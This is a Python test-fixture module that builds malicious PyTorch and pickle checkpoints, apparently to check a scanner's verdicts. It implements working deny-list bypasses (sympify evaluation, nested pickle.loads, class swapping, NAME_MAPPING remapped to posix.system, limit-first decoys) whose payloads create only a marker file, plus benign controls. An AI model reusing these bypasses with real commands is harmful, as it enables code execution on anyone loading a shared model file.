"""Bypasses of a name-by-name verdict, family by family (issue 46), built opcode by opcode.

Each family was shown to run code under ``torch.load(weights_only=False)`` although no
global it names is on a classic deny list:

1. **sympify**: creating an object of a class whose ``__new__`` sympifies its arguments
   (sympy's containers, matrices, limits, orders; torch's own ``torch.utils._sympy``
   functions) evaluates a string argument as Python. By NEWOBJ (protocol 2), NEWOBJ_EX
   (protocol 4) or a REDUCE of ``copyreg.__newobj__`` (protocol 0), or a SETITEM on a
   matrix (``MutableDenseMatrix.__setitem__`` sympifies the value).
2. **nested pickle**: torch's datapipe serialization wrappers (re-exported by
   ``torch.utils.data.dataloader``) call ``pickle.loads`` on their BUILD state
   ``(bytes, use_dill)``.
3. **class swap**: a BUILD whose slot state sets ``__class__`` on a harmless object
   (``argparse.Namespace``, DCP's ``Metadata``) turns it into a wrapper of family 2, and a
   second BUILD runs the wrapper's ``__setstate__``.
5. **legacy source check**: a legacy stream's ``('module', cls, file, source)`` persistent
   id makes torch compare ``cls``'s source with the saved one and, when
   ``cls.dump_patches``, write ``<cls.__name__>.patch`` into the working folder; ``cls``
   is a class made on the spot by NEWOBJ of a metaclass, named as ``torch.nn.Linear``.
7. **the verdict replaced**: (a) a SETITEM into ``_compat_pickle.NAME_MAPPING``, which the
   C unpickler consults for every protocol < 3 GLOBAL, so that an innocent name resolves
   to ``posix.system``; (b) something a reader bounds (a big ``bytearray``, ``str()`` of a
   container, a dict made by NEWOBJ_EX with keywords) placed before a gadget, so that a
   reader that stops at its limit never looks at the gadget.

Every payload creates one file (``marker``, or ``Linear.patch`` for family 5) and nothing
else. A case is a value (opcodes pushing one object, see :class:`Case`) that
:func:`write_case` places in a container: a torch zip's ``data.pkl``, a legacy stream, a
raw pickle file, a DCP folder's ``.metadata`` or a Trainer ``checkpoint-N/``'s
``training_args.bin``. The cases are written from the recipes, not taken from a corpus.
"""

from __future__ import annotations

import io
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from attack_corpus import (
    APPENDS,
    BINPERSID,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWFALSE,
    NEWOBJ,
    NEWTRUE,
    NONE,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEM,
    SETITEMS,
    STOP,
    call,
    dict_of,
    glob,
    integer,
    raw,
    tensor,
    text,
    tup,
    write_torch_zip,
)
from hostile_zips import legacy_bytes

NEWOBJ_EX, POP, DICT = b"\x92", b"0", b"d"

# ------------------------------------------------------------------ the values


def p0_text(value: str) -> bytes:
    """UNICODE, protocol 0's text opcode (raw-unicode-escape up to a newline)."""
    assert "\n" not in value and "\\" not in value
    return b"V" + value.encode() + b"\n"


def p0_int(value: int) -> bytes:
    return b"I" + str(value).encode() + b"\n"


def evaluated(marker: str) -> str:
    """What sympify evaluates: Python that creates the marker."""
    return f"open({marker!r}, 'w').close()"


# The sympify classes: (module, class, the arguments after the evaluated string). Each
# ``__new__`` sympifies its first argument before it looks at the others.
SYMPIFIERS = [
    ("sympy.core.containers", "Tuple", ()),
    ("sympy.core.function", "Lambda", ()),  # Lambda(signature, expr): the string is expr
    ("sympy.matrices.dense", "MutableDenseMatrix", ()),  # given [string]: a 1x1 matrix
    ("sympy.series.limits", "Limit", ("x", 0)),
    ("sympy.matrices.expressions.trace", "Trace", ()),
    ("sympy.series.order", "Order", ()),
    ("torch.utils._sympy.functions", "FloorDiv", (2,)),
    ("torch.utils._sympy.functions", "ModularIndexing", (2, 3)),
    ("torch.utils._sympy.functions", "PythonMod", (2,)),
]


def _sympify_args(cls: str, marker: str, rest: tuple, proto: int) -> list[bytes]:
    """The constructor's arguments, the evaluated string first, in ``proto``'s opcodes."""
    s, n = (p0_text, p0_int) if proto == 0 else (text, integer)
    code = s(evaluated(marker))
    if cls == "Lambda":
        return [s("x"), code]
    if cls == "MutableDenseMatrix":
        if proto == 0:
            return [b"(l" + code + b"a"]  # an empty LIST (from the mark), APPEND
        return [EMPTY_LIST + MARK + code + APPENDS]
    return [code, *(s(v) if isinstance(v, str) else n(v) for v in rest)]


def sympify_newobj(module: str, cls: str, rest: tuple) -> Callable[[str], bytes]:
    """``cls.__new__(cls, *args)`` by NEWOBJ (what protocol 2 writes for an object)."""
    return lambda m: glob(module, cls) + tup(*_sympify_args(cls, m, rest, 2)) + NEWOBJ


def sympify_newobj_ex(module: str, cls: str, rest: tuple) -> Callable[[str], bytes]:
    """``cls.__new__(cls, *args, **{})`` by NEWOBJ_EX (protocol 4)."""
    return lambda m: (
        glob(module, cls) + tup(*_sympify_args(cls, m, rest, 4)) + EMPTY_DICT + NEWOBJ_EX
    )


def sympify_copyreg(module: str, cls: str, rest: tuple) -> Callable[[str], bytes]:
    """``copyreg.__newobj__(cls, *args)`` by REDUCE, in protocol 0's text opcodes only."""
    return lambda m: call(
        glob("copyreg", "__newobj__"), glob(module, cls), *_sympify_args(cls, m, rest, 0)
    )


def matrix_setitem(marker: str) -> bytes:
    """A harmless 1x1 ``MutableDenseMatrix([0])``, then ``matrix[0] = string`` by SETITEM:
    ``__setitem__`` sympifies the value."""
    matrix = glob("sympy.matrices.dense", "MutableDenseMatrix")
    matrix += tup(EMPTY_LIST + MARK + integer(0) + APPENDS) + NEWOBJ
    return matrix + integer(0) + text(evaluated(marker)) + SETITEM


def inner_system(marker: str) -> bytes:
    """A whole pickle of its own: ``posix.system('touch MARKER')``."""
    return PROTO2 + call(glob("posix", "system"), text(f"touch {marker}")) + STOP


def inner_exec(marker: str) -> bytes:
    """A whole pickle of its own: ``builtins.exec(python creating the marker)``."""
    return PROTO2 + call(glob("builtins", "exec"), text(evaluated(marker))) + STOP


def pickled_bytes(data: bytes, proto: int) -> bytes:
    """``data`` as a bytes value: BINBYTES from protocol 3, and at protocol 2 the
    ``_codecs.encode(text, 'latin1')`` call that ``torch.save`` writes for bytes."""
    if proto >= 3:
        return raw(data)
    return call(glob("_codecs", "encode"), text(data.decode("latin1")), text("latin1"))


DATALOADER = "torch.utils.data.dataloader"  # re-exports both wrappers
DATAPIPE = "torch.utils.data.datapipes.datapipe"  # where they are defined
ITER_WRAPPER, MAP_WRAPPER = "_IterDataPipeSerializationWrapper", "_MapDataPipeSerializationWrapper"


def wrapper_state(inner: Callable[[str], bytes], proto: int) -> Callable[[str], bytes]:
    """The wrappers' ``__setstate__`` takes ``(value, use_dill)`` and calls
    ``pickle.loads(value)`` when ``use_dill`` is false (``dill.loads`` otherwise)."""
    return lambda m: tup(pickled_bytes(inner(m), proto), NEWFALSE)


def nested(module: str, cls: str, inner: Callable[[str], bytes], proto: int):
    """A datapipe wrapper made by NEWOBJ (no arguments), then BUILD with its state."""
    state = wrapper_state(inner, proto)
    return lambda m: glob(module, cls) + EMPTY_TUPLE + NEWOBJ + state(m) + BUILD


def class_swap(module: str, cls: str, inner: Callable[[str], bytes], proto: int):
    """``module.cls`` made by NEWOBJ; a BUILD of ``(None, {'__class__': wrapper})`` (the
    slot state is set by ``setattr``) makes it a datapipe wrapper, and a second BUILD
    runs the wrapper's ``__setstate__``."""
    swap = tup(NONE, dict_of(__class__=glob(DATALOADER, ITER_WRAPPER)))
    state = wrapper_state(inner, proto)
    return lambda m: glob(module, cls) + EMPTY_TUPLE + NEWOBJ + swap + BUILD + state(m) + BUILD


LINEAR_MODULE = "torch.nn.modules.linear"
PATCH_FILE = "Linear.patch"  # torch writes <class name>.patch into the working folder


def patching_class(metaclass_module: str, metaclass: str) -> Callable[[str], bytes]:
    """The legacy persistent id ``('module', cls, 'linear.py', source)`` with ``cls`` a
    class made by NEWOBJ of a metaclass (``metaclass.__new__(metaclass, name, bases,
    namespace)``): named like ``torch.nn.Linear`` (so ``inspect.getsource`` finds
    Linear's real source, which differs from the saved one) and ``dump_patches=True``
    (so torch writes the difference to ``Linear.patch``). The marker is unused: the
    file appears in the working folder of the process that loads it."""
    namespace = dict_of(
        dump_patches=NEWTRUE, __module__=text(LINEAR_MODULE), __qualname__=text("Linear")
    )
    cls = glob(metaclass_module, metaclass) + tup(text("Linear"), tup(), namespace) + NEWOBJ
    source = text("class Linear(Module):\n    pass\n")
    return lambda m: tup(text("module"), cls, text("linear.py"), source) + BINPERSID


def compat_remap(module: str, name: str) -> Callable[[str], bytes]:
    """``_compat_pickle.NAME_MAPPING[(module, name)] = ('posix', 'system')`` by SETITEM
    (POP drops the dict), then a protocol-2 GLOBAL ``module name``, which the C
    unpickler now resolves to ``posix.system``, called with the command."""
    mapping = glob("_compat_pickle", "NAME_MAPPING")
    key, target = tup(text(module), text(name)), tup(text("posix"), text("system"))
    remap = mapping + key + target + SETITEM + POP
    return lambda m: remap + call(glob(module, name), text(f"touch {m}"))


# what a reader bounds or refuses to build, each cheap for the real unpickler
ONE_ITEM_LIST = EMPTY_LIST + MARK + integer(1) + APPENDS
LIMITS = {
    "bytearray": lambda: call(glob("builtins", "bytearray"), integer(20_000_000)),
    "str-of-a-list": lambda: call(glob("builtins", "str"), ONE_ITEM_LIST),
    "newobj-ex-keywords": lambda: (
        glob("builtins", "dict") + EMPTY_TUPLE + dict_of(a=integer(1)) + NEWOBJ_EX
    ),
}


def _starmap_of_filehandler(marker: str) -> bytes:
    """``itertools.starmap(logging.FileHandler, [(marker,)])`` made by NEWOBJ: nothing is
    called until something iterates it."""
    args = EMPTY_LIST + MARK + tup(text(marker)) + APPENDS
    return glob("itertools", "starmap") + tup(glob("logging", "FileHandler"), args) + NEWOBJ


# gadgets of callables on no deny list: (value, the names a verdict may give for it)
GADGETS: dict[str, tuple[Callable[[str], bytes], tuple[str, ...]]] = {
    # a partial of a pathlib method, then the partial object called (REDUCE, no args)
    "partial-touch": (
        lambda m: (
            call(
                glob("functools", "partial"),
                glob("pathlib", "Path.touch"),
                call(glob("pathlib", "Path"), text(m)),
            )
            + EMPTY_TUPLE
            + REDUCE
        ),
        ("functools.partial()", "pathlib.Path.touch"),
    ),
    # _reconstructor(cls, base, state) runs base.__init__(obj, state): FileHandler(marker)
    "reconstructor-filehandler": (
        lambda m: call(
            glob("copyreg", "_reconstructor"),
            glob("logging", "FileHandler"),
            glob("logging", "FileHandler"),
            text(m),
        ),
        ("logging.FileHandler", "copyreg._reconstructor"),
    ),
    # deque() iterates the starmap, which calls FileHandler(marker)
    "deque-starmap": (
        lambda m: call(glob("collections", "deque"), _starmap_of_filehandler(m)),
        ("collections.deque(itertools.starmap)", "logging.FileHandler", "itertools.starmap"),
    ),
}


def limit_then_gadget(limit: str, gadget: str) -> Callable[[str], bytes]:
    """A tuple: the bounded thing first, the gadget after it (the unpickler builds both)."""
    return lambda m: tup(LIMITS[limit](), GADGETS[gadget][0](m))


# ------------------------------------------------------------------ benign controls


def benign_namespace(marker: str) -> bytes:
    """An ``argparse.Namespace`` as protocol 2 pickles it: NEWOBJ, BUILD with plain data."""
    state = dict_of(lr=integer(3), output_dir=text("out"), seed=integer(42))
    return glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def benign_namespace_p0(marker: str) -> bytes:
    """The same, as protocol 0 pickles it: ``copy_reg._reconstructor(Namespace, object,
    None)`` by REDUCE, then BUILD with a dict (text opcodes only)."""
    obj = call(glob("copy_reg", "_reconstructor"), glob("argparse", "Namespace"),
               glob("__builtin__", "object"), NONE)  # fmt: skip
    state = MARK + DICT + p0_text("lr") + p0_int(3) + SETITEM
    return obj + state + BUILD


def benign_ordereddict(marker: str) -> bytes:
    """``OrderedDict()`` by REDUCE, then items by SETITEMS (how torch saves metadata)."""
    items = text("a") + integer(1) + text("b") + text("two")
    return call(glob("collections", "OrderedDict")) + MARK + items + SETITEMS


def benign_bytearray(marker: str) -> bytes:
    return call(glob("builtins", "bytearray"), integer(16))


def benign_pickle_bytes(marker: str) -> bytes:
    """A bytes value that happens to hold a pickle: nothing unpickles it."""
    return raw(PROTO2 + call(glob("builtins", "len"), tup()) + STOP)


# ------------------------------------------------------------------ cases


@dataclass(frozen=True)
class Case:
    """One file: ``value(marker)`` is the opcodes pushing one object (protocol
    ``proto``'s opcodes) that ``container`` holds.

    ``dangerous``: for a hostile case, the globals (or calls) a verdict may name for it;
    ``inspect --json``'s ``dangerous`` must hold at least one of them. ``marker``: the
    name of the file the payload creates (beside the checkpoint, or in the working
    folder of the loading process for ``Linear.patch``). ``benign``: a control of the
    same shape that every command reads.
    """

    name: str
    family: str
    container: str  # zip, legacy, raw, dcp, hf
    value: Callable[[str], bytes]
    proto: int = 2
    dangerous: tuple[str, ...] = ()
    marker: str = "marker"
    benign: bool = False

    @property
    def tensors(self) -> bool:
        """Whether the file holds a tensor: protocol 0 writes a storage's persistent id
        as text, which ``torch.load`` refuses, so a protocol-0 pickle holds none; a
        Trainer's ``training_args.bin`` holds none either."""
        return self.proto != 0 and self.container != "hf"  # (hf: training_args.bin)


CONTAINERS = ("zip", "legacy", "raw", "dcp", "hf")
HOSTILE: list[Case] = []
BENIGN: list[Case] = []


def _add(name, family, value, proto, dangerous, containers=("zip",), marker="marker"):
    for container in containers:
        HOSTILE.append(
            Case(f"{name}@{container}", family, container, value, proto, dangerous, marker)
        )


for _module, _cls, _rest in SYMPIFIERS:
    _name, _short = f"{_module}.{_cls}", _cls.lower()
    # Tuple and FloorDiv (sympy's own, torch's own) in every container a pickle reaches
    _more = ("legacy", "raw", "dcp") if _cls in ("Tuple", "FloorDiv") else ()
    _add(
        f"sympify-newobj-{_short}",
        "1 sympify",
        sympify_newobj(_module, _cls, _rest),
        2,
        (_name,),
        ("zip", *_more),
    )
    _add(
        f"sympify-newobj-ex-{_short}",
        "1 sympify",
        sympify_newobj_ex(_module, _cls, _rest),
        4,
        (_name,),
    )
    _add(
        f"sympify-copyreg-p0-{_short}",
        "1 sympify",
        sympify_copyreg(_module, _cls, _rest),
        0,
        (_name, "copyreg.__newobj__"),
        ("zip", "raw") if _cls == "Tuple" else ("zip",),
    )
_add(
    "sympify-matrix-setitem",
    "1 sympify",
    matrix_setitem,
    2,
    ("sympy.matrices.dense.MutableDenseMatrix",),
    ("zip", "legacy"),
)

_add(
    "nested-iter-wrapper-system",
    "2 nested pickle",
    nested(DATALOADER, ITER_WRAPPER, inner_system, 2),
    2,
    (f"{DATALOADER}.{ITER_WRAPPER}",),
    CONTAINERS,
)
_add(
    "nested-map-wrapper-exec",
    "2 nested pickle",
    nested(DATALOADER, MAP_WRAPPER, inner_exec, 4),
    4,
    (f"{DATALOADER}.{MAP_WRAPPER}",),
    ("zip", "raw"),
)
_add(
    "nested-iter-wrapper-defining-module",
    "2 nested pickle",
    nested(DATAPIPE, ITER_WRAPPER, inner_system, 4),
    4,
    (f"{DATAPIPE}.{ITER_WRAPPER}",),
)

_add(
    "class-swap-namespace",
    "3 class swap",
    class_swap("argparse", "Namespace", inner_system, 2),
    2,
    (f"{DATALOADER}.{ITER_WRAPPER}",),
    ("zip", "legacy", "hf"),
)
_add(
    "class-swap-dcp-metadata",
    "3 class swap",
    class_swap("torch.distributed.checkpoint.metadata", "Metadata", inner_exec, 4),
    4,
    (f"{DATALOADER}.{ITER_WRAPPER}",),
    ("zip", "dcp"),
)

for _module, _meta in (("abc", "ABCMeta"), ("typing", "_ProtocolMeta")):
    _add(
        f"legacy-patch-{_meta.strip('_').lower()}",
        "5 legacy source check",
        patching_class(_module, _meta),
        2,
        (f"{_module}.{_meta}",),
        ("legacy",),  # only the legacy reader takes a ('module', ...) persistent id
        PATCH_FILE,
    )

for _module, _global, _containers in (
    ("builtins", "str", ("zip", "raw", "dcp")),
    ("collections", "OrderedDict", ("zip", "legacy")),
):
    _add(
        f"compat-mapping-{_global.lower()}",
        "7a name mapping",
        compat_remap(_module, _global),
        2,  # the mapping applies to protocols < 3 only
        ("_compat_pickle.NAME_MAPPING",),
        _containers,
    )

for _limit in LIMITS:
    for _gadget, (_, _names) in GADGETS.items():
        # every pair in a zip; the str() limit also in the other containers
        _more = ("legacy", "raw", "dcp") if _limit == "str-of-a-list" else ()
        _add(
            f"limit-{_limit}-then-{_gadget}",
            "7b limit first",
            limit_then_gadget(_limit, _gadget),
            4,  # pathlib.Path.touch, a dotted name, resolves from protocol 4
            _names,
            ("zip", *_more),
        )


def _benign(name, family, value, proto, containers):
    for container in containers:
        case = Case(f"benign-{name}@{container}", family, container, value, proto, benign=True)
        BENIGN.append(case)


_benign(
    "namespace-newobj-build", "1/3 control", benign_namespace, 2, ("zip", "legacy", "dcp", "hf")
)
_benign("namespace-p0-reconstructor", "1 control", benign_namespace_p0, 0, ("zip",))
_benign("ordereddict-setitems", "1/7a control", benign_ordereddict, 2, ("zip", "legacy", "dcp"))
_benign("bytearray-16", "7b control", benign_bytearray, 4, ("zip",))
_benign("bytes-holding-a-pickle", "2 control", benign_pickle_bytes, 4, ("zip",))

CASES = HOSTILE + BENIGN


# ------------------------------------------------------------------ containers


def legacy_tensor() -> bytes:
    """A legacy stream's tensor: the storage id has a sixth item, its view (None)."""
    pid = tup(text("storage"), glob("torch", "FloatStorage"), text("0"), text("cpu"),
              integer(4), NONE) + BINPERSID  # fmt: skip
    return call(glob("torch._utils", "_rebuild_tensor_v2"), pid, integer(0),
                tup(integer(4)), tup(integer(1)), NEWFALSE,
                call(glob("collections", "OrderedDict")))  # fmt: skip


STORAGE = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)


def state_dict(case: Case, marker: str, weight: bytes | None) -> bytes:
    """``{"w": weight, "x": value}``: the value inside a real-looking state dict. At
    protocol 0 (no BINPERSID, BININT...), ``{"x": value}`` in text opcodes only."""
    value = case.value(marker)
    if case.proto == 0:
        return MARK + DICT + p0_text("x") + value + SETITEM + STOP
    proto = PROTO4 if case.proto >= 4 else PROTO2
    head = text("w") + weight if weight is not None else b""
    return proto + EMPTY_DICT + MARK + head + text("x") + value + SETITEMS + STOP


class _Raw:
    """Written into a pickle as the opcodes it holds (see :func:`metadata_with`)."""

    def __init__(self, data: bytes):
        self.data = data


class _InjectingPickler(pickle._Pickler):  # the Python pickler: ``save`` can be hooked
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, _Raw):
            self.write(obj.data)
            return
        super().save(obj, save_persistent_id)


def metadata_with(real_metadata: bytes, value: bytes, proto: int) -> bytes:
    """A real DCP ``Metadata`` re-pickled with ``planner_data = {"x": value}`` at protocol
    2, or 4 (what ``dcp.save`` writes) for a value that needs it (dotted names). ``value``:
    opcodes using no memo, so the pickler's memo indices stay right; at protocol 4 they
    go into the pickler's current frame, whose length is counted when it is written."""
    metadata = pickle.loads(real_metadata)  # our own file, written by dcp.save
    metadata.planner_data = {"x": _Raw(value)}
    out = io.BytesIO()
    _InjectingPickler(out, protocol=4 if proto >= 4 else 2).dump(metadata)
    return out.getvalue()


def write_args_zip(path: Path, data_pkl: bytes) -> None:
    """What ``torch.save(args, "training_args.bin")`` writes: a zip with no storage."""
    entries = {"data.pkl": data_pkl, "byteorder": b"little", "version": b"3\n"}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(f"training_args/{name}", data)


def write_case(case: Case, folder: Path, dcp_template: Path, safetensors_file: Path) -> Path:
    """Write ``case`` under ``folder`` (the marker's folder); return what to load: a file,
    the DCP folder, or the ``training_args.bin`` of a ``checkpoint-N`` folder.
    ``dcp_template``: a real DCP folder written by ``dcp.save``; ``safetensors_file``: a
    real ``model.safetensors``."""
    marker = str(folder / "marker")
    if case.container == "zip":
        path = folder / "model.pt"
        write_torch_zip(path, state_dict(case, marker, tensor()))
    elif case.container == "legacy":
        path = folder / "model.pt"
        storages = [("0", 4, STORAGE)] if case.proto else []
        weight = legacy_tensor() if case.proto else None
        path.write_bytes(legacy_bytes(state_dict(case, marker, weight), storages))
    elif case.container == "raw":  # the bare value: a pickle that is no checkpoint
        path = folder / "model.pkl"
        header = b"" if case.proto == 0 else PROTO4 if case.proto >= 4 else PROTO2
        path.write_bytes(header + case.value(marker) + STOP)
    elif case.container == "dcp":
        path = folder / "dcp"
        shutil.copytree(dcp_template, path)
        real = (path / ".metadata").read_bytes()
        (path / ".metadata").write_bytes(metadata_with(real, case.value(marker), case.proto))
    elif case.container == "hf":  # a Trainer's checkpoint-N: the args object is the value
        path = folder / "checkpoint-500"
        path.mkdir()
        shutil.copy(safetensors_file, path / "model.safetensors")
        (path / "config.json").write_text('{"model_type": "bert", "architectures": []}')
        # what makes it a Trainer's checkpoint (a run folder), not a model folder
        (path / "trainer_state.json").write_text(
            '{"global_step": 500, "epoch": 1.0, "log_history": [], "best_metric": null}'
        )
        proto = PROTO4 if case.proto >= 4 else PROTO2
        write_args_zip(path / "training_args.bin", proto + case.value(marker) + STOP)
        path = path / "training_args.bin"
    else:
        raise ValueError(case.container)
    return path
